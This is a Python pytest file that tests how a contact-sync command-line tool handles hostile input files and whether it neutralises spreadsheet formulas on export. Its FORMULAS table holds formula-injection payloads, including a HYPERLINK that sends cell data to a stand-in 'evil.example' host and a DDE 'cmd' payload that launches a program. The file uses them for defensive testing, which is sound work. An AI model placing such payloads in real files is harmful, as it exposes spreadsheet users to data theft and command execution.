"""Hostile input: every file of `tests/hostile/` (and some generated at test
time) through the real `contactsync sync` subprocess, against a mirror that
already holds contacts.

Each case: a clear message naming the file, the line and the problem; no
traceback; bounded memory (the child's peak RSS from `wait4`); a non-zero
exit and an unchanged mirror when the whole file is refused; bad rows kept
in quarantine with their line when only rows are bad.
"""

from __future__ import annotations

import csv
import io
import json
import os
import random
import shutil
import sqlite3
import subprocess
import tempfile
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from agent_helpers import CLI, env, write_csv
from contactsync_agent import csvsafe
from contactsync_agent.mirror import Mirror

HOSTILE = Path(__file__).parent / "hostile"
MB = 1 << 20


@dataclass(frozen=True)
class Outcome:
    stdout: str
    stderr: str
    code: int
    maxrss: int  # bytes


# The CLI run in a child that reports its own peak RSS (VmHWM) at exit: wait4's
# ru_maxrss would include the forking test process's memory.
_MEASURED = """
import atexit, sys
hwm_file = sys.argv.pop(1)
def _hwm():
    with open('/proc/self/status') as f:
        kb = next(line.split()[1] for line in f if line.startswith('VmHWM:'))
    with open(hwm_file, 'w') as f:
        f.write(kb)
atexit.register(_hwm)
sys.argv[0] = 'contactsync'
from contactsync_agent.cli import main
main()
"""


def run_cli(*args: str, timeout: float = 120.0) -> Outcome:
    """Runs `contactsync ARGS` as a subprocess and measures its peak memory."""
    with tempfile.TemporaryDirectory() as d:
        hwm = Path(d) / "hwm"
        p = subprocess.run([CLI[0], "-c", _MEASURED, str(hwm), *args], capture_output=True,
                           text=True, env=env(), timeout=timeout, check=False)
        rss = int(hwm.read_text()) * 1024 if hwm.exists() else 0
    return Outcome(p.stdout, p.stderr, p.returncode, rss)


def dump(db: Path) -> list[tuple]:
    """Everything a downstream app reads about contacts (runs apart)."""
    con = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
    try:
        out: list[tuple] = []
        for t, key in (("contacts", "id"), ("changes", "seq"), ("activities", "id"),
                       ("review_items", "id"), ("quarantine", "id"), ("meta", "key")):
            out += [(t, *r) for r in con.execute(f"SELECT * FROM {t} ORDER BY {key}")]
        return out
    finally:
        con.close()


def query(db: Path, sql: str, params: tuple = ()) -> list[tuple]:
    con = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
    try:
        return con.execute(sql, params).fetchall()
    finally:
        con.close()


@pytest.fixture(scope="module")
def base_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A mirror holding 20 contacts of source xpm and one manual contact."""
    d = tmp_path_factory.mktemp("base")
    with Mirror.open(d / "mirror.db") as m:
        m.sync_file("xpm", write_csv(d / "base.csv", 20))
        m.add_contact(name="Local Person", email="local@example.com")
    return d / "mirror.db"


@pytest.fixture
def db(base_db: Path, tmp_path: Path) -> Path:
    p = tmp_path / "mirror.db"
    shutil.copyfile(base_db, p)
    os.chmod(p, 0o600)
    return p


@dataclass(frozen=True)
class Case:
    name: str
    mode: str = "incremental"
    code: int = 0
    # (line, words the reason must contain) of each quarantined row
    rejected: tuple[tuple[int, str], ...] = ()
    message: tuple[str, ...] = ()  # words stderr must contain (refused files)
    imported: tuple[str, ...] = ()  # external ids that must arrive
    fmt: str | None = None
    extra: dict[str, str] = field(default_factory=dict)


ROW_CASES = [
    Case("unbalanced_quote.csv", rejected=((3, "never closed"),), imported=("H1",)),
    Case("ragged_rows.csv", rejected=((3, "expected 4 fields, found 2"),
                                      (4, "expected 4 fields, found 6")),
         imported=("H1", "H4")),
    Case("invalid_utf8.csv", rejected=((3, 'invalid UTF-8 in column "First Name"'),),
         imported=("H1", "H3")),
    Case("nul_bytes.csv", rejected=((3, 'NUL byte in column "First Name"'),),
         imported=("H1", "H3")),
    Case("duplicate_ids.csv",
         rejected=((4, 'duplicate external id "H1" (first seen at line 2)'),),
         imported=("H1", "H2")),
    Case("truncated.ndjson", rejected=((3, "invalid JSON"),), imported=("H1", "H2")),
]

REFUSED_CASES = [
    Case("empty.csv", mode="full", code=3, message=("line 1: the file is empty",)),
    Case("header_only.csv", mode="full", code=4,
         message=("has no records", "never wipes the mirror", "--allow-mass-delete")),
    Case("missing_external_id.csv", code=3,
         message=("line 1", "no column maps to external_id")),
    Case("truncated.json", code=3, message=("line 3, column", "truncated JSON")),
    Case("wrong_shape.json", code=3,
         message=("line 1", "expected a JSON array of objects", "found an object")),
]


def assert_clean(o: Outcome, limit_mb: int = 150) -> None:
    assert "Traceback" not in o.stderr and "Traceback" not in o.stdout, o.stderr
    assert "panicked" not in o.stderr, o.stderr
    assert 0 < o.maxrss < limit_mb * MB, f"peak RSS {o.maxrss / MB:.0f} MB"


@pytest.mark.parametrize("case", ROW_CASES, ids=lambda c: c.name)
def test_bad_rows_are_quarantined_with_file_and_line(case: Case, db: Path) -> None:
    f = HOSTILE / case.name
    o = run_cli("--db", str(db), "sync", "-s", "xpm", "--mode", case.mode, str(f))
    assert_clean(o)
    assert o.code == case.code, o.stderr
    for line, words in case.rejected:
        shown = [x for x in o.stderr.splitlines() if f"{f}, line {line}:" in x]
        assert shown and words in shown[0], o.stderr
    rows = query(db, "SELECT file, line, reason FROM quarantine ORDER BY line")
    assert [(r[0], r[1]) for r in rows] == [(str(f), line) for line, _ in case.rejected]
    for (_, _, reason), (_, words) in zip(rows, case.rejected, strict=True):
        assert words in reason
    got = {r[0] for r in query(db, "SELECT external_id FROM contacts WHERE external_id LIKE 'H%'")}
    assert set(case.imported) <= got
    # Base contacts untouched (incremental: absence is not deletion).
    assert query(db, "SELECT count(*) FROM contacts WHERE external_id LIKE 'X%' "
                     "AND deleted_at IS NULL")[0][0] == 20


@pytest.mark.parametrize("case", REFUSED_CASES, ids=lambda c: c.name)
def test_refused_files_change_nothing(case: Case, db: Path) -> None:
    f = HOSTILE / case.name
    before = dump(db)
    o = run_cli("--db", str(db), "sync", "-s", "xpm", "--mode", case.mode, str(f))
    assert_clean(o)
    assert o.code == case.code, (o.code, o.stderr)
    line = o.stderr.strip()
    assert line.startswith("contactsync: error: ") and str(f) in line, o.stderr
    for words in case.message:
        assert words in line, o.stderr
    assert dump(db) == before
    # Every refusal (before its run could start, or inside it) is on record as a run.
    statuses = [r[0] for r in query(db, "SELECT status FROM runs ORDER BY id")]
    assert statuses == ["ok", "refused"], statuses


def test_a_50_mb_single_field_is_quarantined_in_bounded_memory(db: Path,
                                                                 tmp_path: Path) -> None:
    f = tmp_path / "huge_field.csv"
    with f.open("w", encoding="utf-8") as fh:
        fh.write("Client ID,First Name,Surname,Notes\nH1,John,Smith,fine\nH2,Mary,Smith,\"")
        chunk = "x" * MB
        for _ in range(50):
            fh.write(chunk)
        fh.write("\"\nH3,Chris,Smith,fine\n")
    o = run_cli("--db", str(db), "sync", "-s", "xpm", "--mode", "incremental", str(f))
    print(f"50 MB field (CSV): peak RSS {o.maxrss / MB:.0f} MB")
    assert_clean(o, limit_mb=400)
    assert o.code == 0
    assert f"{f}, line 3: column \"Notes\" holds {50 * MB} bytes, over the limit" in o.stderr
    assert query(db, "SELECT max(length(raw)) FROM quarantine")[0][0] < 10_000
    assert {r[0] for r in query(db, "SELECT external_id FROM contacts "
                                    "WHERE external_id LIKE 'H%'")} == {"H1", "H3"}


def test_a_50_mb_json_value_is_quarantined_in_bounded_memory(db: Path,
                                                               tmp_path: Path) -> None:
    f = tmp_path / "huge_field.json"
    f.write_text(json.dumps([{"id": "H1", "name": "John Smith"},
                             {"id": "H2", "notes": "y" * (50 * MB)},
                             {"id": "H3", "name": "Chris Smith"}], indent=1))
    o = run_cli("--db", str(db), "sync", "-s", "xpm", "--mode", "incremental", str(f))
    print(f"50 MB field (JSON): peak RSS {o.maxrss / MB:.0f} MB")
    assert_clean(o, limit_mb=400)
    assert o.code == 0
    assert f"{f}, line 6: column \"notes\" holds {50 * MB} bytes" in o.stderr, o.stderr


def test_ten_thousand_columns(db: Path, tmp_path: Path) -> None:
    f = tmp_path / "wide.csv"
    cols = ["Client ID", "First Name", *(f"Column {i}" for i in range(9_998))]
    with f.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(cols)
        for r in range(5):
            w.writerow([f"W{r}", f"Wide{r}", *(f"v{r}.{i}" for i in range(9_998))])
        w.writerow(["W9", "Short"])  # ragged among the wide
    o = run_cli("--db", str(db), "sync", "-s", "xpm", "--mode", "incremental", str(f))
    assert_clean(o)
    assert o.code == 0, o.stderr
    assert f"{f}, line 7: expected 10000 fields, found 2" in o.stderr
    [(extra,)] = query(db, "SELECT extra FROM contacts WHERE external_id = 'W3'")
    assert json.loads(extra)["Column 9997"] == "v3.9997"


def test_random_bytes_are_refused_cleanly(db: Path, tmp_path: Path) -> None:
    f = tmp_path / "garbage.csv"
    rng = random.Random(20240605)
    f.write_bytes(bytes(rng.randrange(256) for _ in range(200_000)))
    before = dump(db)
    o = run_cli("--db", str(db), "sync", "-s", "xpm", str(f))
    assert_clean(o)
    assert o.code != 0 and str(f) in o.stderr and "line 1" in o.stderr, o.stderr
    assert dump(db) == before


def test_deeply_nested_json_is_refused_or_quarantined(db: Path, tmp_path: Path) -> None:
    whole = tmp_path / "deep.json"
    whole.write_text("[" * 200_000)
    before = dump(db)
    o = run_cli("--db", str(db), "sync", "-s", "xpm", str(whole))
    assert_clean(o)
    assert o.code == 3 and f"{whole}, line 1" in o.stderr, o.stderr
    assert dump(db) == before
    inner = tmp_path / "deep-value.json"
    inner.write_text('[{"id": "H1", "x": ' + "[" * 100_000 + "]" * 100_000 + "},\n"
                     ' {"id": "H2", "name": "Mary Smith"}]')
    o = run_cli("--db", str(db), "sync", "-s", "xpm", "--mode", "incremental", str(inner))
    assert_clean(o)
    assert o.code == 0 and f"{inner}, line 1: element 1: recursion limit" in o.stderr, o.stderr


def test_over_the_maximum_file_size_is_refused(db: Path, tmp_path: Path) -> None:
    f = write_csv(tmp_path / "big.csv", 200)
    cfg = tmp_path / "config.toml"
    cfg.write_text(f'[agent]\ndatabase = "{db}"\n\n[sources.xpm]\nenabled = true\n'
                   f'kind = "folder"\npath = "{tmp_path}"\nmax_file_bytes = 1000\n')
    before = dump(db)
    o = run_cli("--config", str(cfg), "sync", "-s", "xpm", str(f))
    assert_clean(o)
    assert o.code == 4, o.stderr
    size = f.stat().st_size
    assert (f"contactsync: error: {f}: {size} bytes is over the maximum file size of 1000 bytes"
            in o.stderr)
    assert dump(db) == before


# ---------------------------------------------------------------- formulas


FORMULAS = {
    "F1": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "F2": "+cmd|' /C calc'!A0",
    "F3": "-1+1",
    "F4": "@SUM(A1:A9)",
}


def test_formula_values_are_stored_as_they_came(db: Path) -> None:
    f = HOSTILE / "formulas.csv"
    o = run_cli("--db", str(db), "sync", "-s", "xpm", "--mode", "incremental", str(f))
    assert_clean(o)
    assert o.code == 0, o.stderr
    got = dict(query(db, "SELECT external_id, given_name FROM contacts "
                         "WHERE external_id LIKE 'F%'"))
    assert got == FORMULAS
    [(notes,)] = query(db, "SELECT notes FROM contacts WHERE external_id = 'F3'")
    assert notes == "=1+2"


@pytest.mark.parametrize(("value", "expected"), [
    ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
    ("+cmd", "'+cmd"),
    ("-1+1", "'-1+1"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("plain", "plain"),
    ("", ""),
    ("a=b", "a=b"),
    (-1.5, -1.5),
    (3, 3),
    (None, None),
])
def test_neutralise(value: object, expected: object) -> None:
    assert csvsafe.neutralise(value) == expected


def test_safe_writer_neutralises_every_cell() -> None:
    buf = io.StringIO()
    w = csvsafe.writer(buf)
    w.writerow(["id", "name"])
    w.writerows([[k, v] for k, v in FORMULAS.items()])
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert rows[0] == ["id", "name"]
    assert [r[1] for r in rows[1:]] == ["'" + v for v in FORMULAS.values()]


def test_match_result_csv_neutralises_formula_ids(tmp_path: Path) -> None:
    from contactsync_agent.matching import dedupe

    people = [{"id": "=1+1", "given_name": "John", "family_name": "Smith",
               "email": "john@example.com"},
              {"id": "@SUM(A1)", "given_name": "John", "family_name": "Smith",
               "email": "john@example.com"}]
    res = dedupe(people)
    assert len(res) == 1
    out = tmp_path / "pairs.csv"
    res.to_csv(out)
    with out.open(encoding="utf-8", newline="") as fh:
        [row] = list(csv.DictReader(fh))
    assert {row["left_id"], row["right_id"]} == {"'=1+1", "'@SUM(A1)"}
    assert float(row["probability"]) > 0.5


def test_csv_export_neutralises_formula_values(db: Path, tmp_path: Path) -> None:
    run_cli("--db", str(db), "sync", "-s", "xpm", "--mode", "incremental",
            str(HOSTILE / "formulas.csv"))
    out = tmp_path / "export.csv"
    o = run_cli("--db", str(db), "export", "--full", "--format", "csv", "--out", str(out))
    assert_clean(o)
    assert o.code == 0, o.stderr
    with out.open(encoding="utf-8", newline="") as fh:
        rows = {r["external_id"]: r for r in csv.DictReader(fh)}
    for ext, value in FORMULAS.items():
        assert rows[ext]["given_name"] == "'" + value
    assert rows["F3"]["notes"] == "'=1+2"
    assert rows["X1"]["given_name"] == "Given1"  # ordinary values untouched
    # Only the agent's own numbers (hashes) may start with "-".
    assert all(not v.startswith(csvsafe.TRIGGERS) or v.lstrip("-").isdigit()
               for r in rows.values() for v in r.values())
